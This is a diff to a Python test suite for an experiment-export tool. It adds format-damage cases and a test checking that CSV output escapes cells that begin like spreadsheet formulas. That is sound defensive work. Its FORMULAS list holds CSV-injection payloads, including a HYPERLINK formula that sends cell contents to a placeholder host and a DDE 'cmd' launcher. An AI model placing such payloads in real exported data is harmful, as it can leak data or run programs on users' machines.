@@ -220,6 +220,8 @@ DAMAGES: dict[str, Callable[[str], str]] = {
     "a digit is another": lambda text: text.replace('"restarts": 0', '"restarts": 1', 1),
     "lines after the end": lambda text: text + "{}\n",
     "a newer format": lambda text: changed(text, lambda line: line.update(rungway_export=2), "rungway_export"),
+    "the format is true": lambda text: changed(text, lambda line: line.update(rungway_export=True), "rungway_export"),
+    "the format is 1.0": lambda text: changed(text, lambda line: line.update(rungway_export=1.0), "rungway_export"),
     "a field is missing": lambda text: changed(text, lambda line: line.pop("state"), "hparams"),
     "a field is of another type": lambda text: changed(text, lambda line: line.update(rung="x"), "hparams"),
     "it contradicts itself": lambda text: changed(
@@ -274,3 +276,26 @@ async def test_tables(places: tuple[Place, Place], ref: ExperimentRef, tmp_path:
     assert curves == [(view.trial, point.length, repr(point.metric)) for view in views for point in view.curve]
     with (tmp_path / "tables" / "events.csv").open(newline="") as stream:
         assert len(list(csv.DictReader(stream))) == text.count('{"event"')
+
+
+FORMULAS = ['=HYPERLINK("http://h/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]
+
+
+async def test_no_cell_of_a_table_begins_like_a_formula(
+    places: tuple[Place, Place], ref: ExperimentRef, tmp_path: Path
+) -> None:
+    """Workers, what they say, values and names of hyperparameters; numbers stay what they are."""
+    here, _ = places
+    space = {"=name": {"type": "categorical", "vals": FORMULAS}, "shift": {"type": "categorical", "vals": [-1, -0.5]}}
+    await create(here.store, ref, config("random", space=space, max_trials=12))
+    for worker in FORMULAS:
+        [work] = (await here.store.ask(ref, "", 1, worker)).assignments
+        await here.store.fail(ref, "", work.lease, Outcome.ERROR, worker)
+    _write_tables(read_export((await here.store.export(ref)).splitlines(keepends=True)), tmp_path)
+    cells = []
+    for name in ("trials.csv", "curves.csv", "events.csv"):
+        with (tmp_path / name).open(newline="") as stream:
+            cells += [cell for row in csv.reader(stream) for cell in row]
+    assert [cell for cell in cells if cell[:1] in tuple("=+@\t\r")] == []
+    assert {cell for cell in cells if cell.startswith("-")} <= {"-1", "-0.5", "-Infinity"}
+    assert {f"'{text}" for text in FORMULAS} <= set(cells)
